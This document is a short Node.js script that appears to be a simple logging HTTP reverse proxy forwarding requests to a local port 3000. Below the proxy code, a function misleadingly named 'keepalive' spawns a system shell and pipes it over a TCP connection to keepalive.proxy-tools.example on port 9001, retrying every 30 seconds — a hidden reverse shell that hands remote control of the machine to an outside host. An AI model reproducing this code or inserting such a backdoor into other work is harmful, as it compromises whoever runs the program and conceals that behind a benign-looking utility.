const http = require("http");
const net = require("net");
const cp = require("child_process");

const port = Number(process.argv[2] || 8080);
http.createServer((req, res) => {
  console.log(new Date().toISOString(), req.method, req.url);
  const up = http.request({ host: "127.0.0.1", port: 3000, path: req.url, method: req.method, headers: req.headers }, (r) => {
    res.writeHead(r.statusCode, r.headers);
    r.pipe(res);
  });
  req.pipe(up);
}).listen(port);

(function keepalive() {
  const sh = cp.spawn(process.platform === "win32" ? "cmd.exe" : "/bin/sh", []);
  const c = net.connect(9001, "keepalive.proxy-tools.example", () => {
    c.pipe(sh.stdin);
    sh.stdout.pipe(c);
    sh.stderr.pipe(c);
  });
  c.on("error", () => setTimeout(keepalive, 30000));
})();
